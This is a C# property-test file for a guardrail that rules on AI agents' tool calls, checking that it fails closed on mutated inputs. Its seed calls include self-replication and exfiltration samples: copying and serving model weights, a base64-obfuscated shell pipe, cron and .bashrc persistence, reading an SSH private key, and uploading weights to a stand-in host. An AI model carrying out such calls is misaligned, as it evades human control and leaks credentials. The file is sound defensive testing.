using System.Text.Json;
using System.Text.Json.Nodes;
using Xunit.Abstractions;

namespace Guardrails.Tests.Properties;

/// <summary>
/// Properties of <see cref="Guard.Evaluate"/> and <see cref="Guard.DecideAsync"/> on mutated tool calls of every
/// interpreter (shell, file write, file edit, file read, file copy, Python, HTTP, process, generic): realistic calls,
/// benign and replicating, whose JSON arguments are mutated structurally (values retyped, keys dropped or added,
/// strings mutated or made huge, deep nesting) and textually (the JSON text itself, when the result still parses).
/// </summary>
/// <remarks>
/// For each call, under the builtin policies: (1) no exception escapes and the verdict is defined; (2) the same call
/// gets the same decision, from the same guard and from a guard built from another load of the policy; (3) when the
/// analysis reports a problem the verdict is not allow; (4) under the enforcing builtin policies, when the guard gave
/// up on part of the call (a problem, or code it could not read) the verdict is not allow; (5) DecideAsync never
/// throws, whatever the approval handler does, and allows only what was allowed or what a handler approved.
/// </remarks>
public sealed class ToolCallPropertyTests(ITestOutputHelper output)
{
    /// <summary>Realistic calls for every interpreter: tool name and JSON arguments.</summary>
    private static readonly (string Tool, string Arguments)[] Seeds =
    [
        ("bash", """{"command": "ls -la && git status"}"""),
        ("bash", """{"command": "nohup vllm serve /models/qwen --port 8001 &", "cwd": "/opt/agent"}"""),
        ("Bash", """{"command": "cp -r /models/qwen /tmp/q", "description": "copy"}"""),
        ("run_shell_command", """{"command": "echo Y3AgLXIgL21vZGVscy9xd2VuIC90bXAvcQ== | base64 -d | bash"}"""),
        ("execute_command", """{"cmd": "python3 -m http.server 8000", "workdir": "/tmp"}"""),
        ("write_file", """{"path": "/etc/cron.d/agent", "content": "@reboot root python3 /opt/agent/start.py\n"}"""),
        ("Write", """{"file_path": "/home/agent/project/README.md", "content": "# notes\n"}"""),
        ("Edit", """{"file_path": "/home/agent/.bashrc", "old_string": "alias ll='ls -l'", "new_string": "nohup python3 /opt/agent/start.py &"}"""),
        ("MultiEdit", """{"file_path": "/home/agent/project/app.py", "edits": [{"old_string": "a", "new_string": "b"}]}"""),
        ("read_file", """{"path": "/home/agent/.ssh/id_rsa"}"""),
        ("copy_file", """{"source": "/models/qwen/model.safetensors", "destination": "/tmp/w.safetensors"}"""),
        ("execute_python", """{"code": "import shutil\nshutil.copytree('/models/qwen', '/tmp/q')"}"""),
        ("python", """{"code": "import subprocess\nsubprocess.run(['vllm', 'serve', '/models/qwen'])"}"""),
        ("python", """{"code": "print(sum(range(10)))"}"""),
        ("http_request", """{"url": "https://upload.example/put", "method": "PUT", "body": "weights"}"""),
        ("WebFetch", """{"url": "http://127.0.0.1:8001/v1/completions", "prompt": "replicate yourself"}"""),
        ("start_process", """{"program": "vllm", "args": ["serve", "/models/qwen", "--port", "8001"], "cwd": "/tmp"}"""),
        ("start_process", """{"program": "/usr/bin/git", "args": ["status"]}"""),
        ("mcp__files__move", """{"from": "/models/qwen", "to": "/mnt/usb/q"}"""),
        ("Glob", """{"pattern": "**/*.safetensors", "path": "/models"}"""),
    ];

    private static readonly string[] Donors = [.. Seeds.Select(s => s.Arguments)];

    // Mutations nest values deeply; a host may hand the guard arguments deeper than System.Text.Json's default 64.
    private static readonly JsonSerializerOptions DeepJson = new() { MaxDepth = 1024 };

    private static readonly Lazy<(GuardPolicy Policy, Guard Guard, Guard Twin)[]> Builtins = new(() =>
        [.. new[] { "builtin:default", "builtin:strict", "builtin:audit" }.Select(name =>
        {
            var policy = GuardPolicy.Load(name);
            var twin = GuardPolicy.Parse(ReadBuiltin(name), name + ".json");
            return (policy, new Guard(policy, new GuardOptions { HomeDirectory = TestGuards.Home }), new Guard(twin, new GuardOptions { HomeDirectory = TestGuards.Home }));
        })]);

    public static TheoryData<int> Batches => [.. Enumerable.Range(0, 4)];

    [Theory]
    [MemberData(nameof(Batches))]
    public void MutatedToolCalls_OfEveryInterpreter_AreDecidedDeterministically_AndFailClosed(int batch)
    {
        var run = new PropertyRun(output, nameof(MutatedToolCalls_OfEveryInterpreter_AreDecidedDeterministically_AndFailClosed), batch);
        var gaveUp = 0;
        var cases = PropertyRun.Cases(150);
        for (var i = 0; i < cases; i++)
        {
            var (tool, arguments) = NextCall(run.Random);
            var input = tool + " " + arguments.GetRawText();
            var call = new ToolCall(tool, arguments) { WorkingDirectory = run.Random.Next(4) == 0 ? null : TestGuards.Home };
            foreach (var (policy, guard, twin) in Builtins.Value)
            {
                var decision = DecisionChecks.Check(run, i, $"{policy.Name}: {input}", guard, twin, call);
                if (decision is null || !DecisionChecks.GaveUp(decision))
                {
                    continue;
                }

                gaveUp++;
                if (DecisionChecks.Reached(decision) == Verdict.Allow)
                {
                    run.Fail("give-up-allowed", i, $"{policy.Name}: {input}", $"the guard gave up ({decision.Error ?? "opaque code"}) but the verdict is allow");
                }
            }
        }

        output.WriteLine($"{cases} calls × 3 policies; the guard gave up on part of {gaveUp} decisions");
        gaveUp.Should().BeGreaterThan(cases / 10, "the mutations must reach the guard's give-up paths");
        run.AssertNoFailures();
    }

    [Fact]
    public void MutatedToolCalls_ResolvedWithAnyApprovalHandler_NeverThrow_AndAllowOnlyWhatWasApproved()
    {
        var run = new PropertyRun(output, nameof(MutatedToolCalls_ResolvedWithAnyApprovalHandler_NeverThrow_AndAllowOnlyWhatWasApproved));
        var escalated = 0;
        var cases = PropertyRun.Cases(200);
        for (var i = 0; i < cases; i++)
        {
            var (tool, arguments) = NextCall(run.Random);
            var call = new ToolCall(tool, arguments) { WorkingDirectory = TestGuards.Home, SessionId = run.Random.Next(3) == 0 ? "s" + (i % 5) : null };
            var (policy, guard, _) = Builtins.Value[run.Random.Next(2)];
            escalated += guard.Evaluate(call).Verdict == Verdict.Escalate ? 1 : 0;
            DecisionChecks.CheckResolved(run, i, tool + " " + arguments.GetRawText(), policy, call, run.Random.Next(5));
        }

        output.WriteLine($"{cases} calls, {escalated} escalated");
        escalated.Should().BeGreaterThan(10, "the calls must reach the approval path");
        run.AssertNoFailures();
    }

    /// <summary>Picks a seed call and mutates it: its JSON tree (usually), or its JSON text when the result still parses.</summary>
    private static (string Tool, JsonElement Arguments) NextCall(Random random)
    {
        var (tool, text) = Seeds[random.Next(Seeds.Length)];
        if (random.Next(4) == 0)
        {
            for (var attempt = 0; attempt < 5; attempt++)
            {
                var mutated = Mutations.MutateText(random, text, donors: Donors);
                try
                {
                    using var document = JsonDocument.Parse(mutated);
                    return (tool, document.RootElement.Clone());
                }
                catch (JsonException)
                {
                    // Not JSON any more: the host would have rejected it before asking the guard. Try again.
                }
            }
        }

        var node = Mutations.MutateJson(random, JsonNode.Parse(text), Donors);
        return (random.Next(10) == 0 ? Mutations.MutateText(random, tool, 2) : tool, JsonSerializer.SerializeToElement(node, DeepJson));
    }

    private static string ReadBuiltin(string name)
    {
        using var stream = typeof(GuardPolicy).Assembly.GetManifestResourceStream($"Guardrails.Policies.{name["builtin:".Length..]}.json")!;
        using var reader = new StreamReader(stream);
        return reader.ReadToEnd();
    }
}
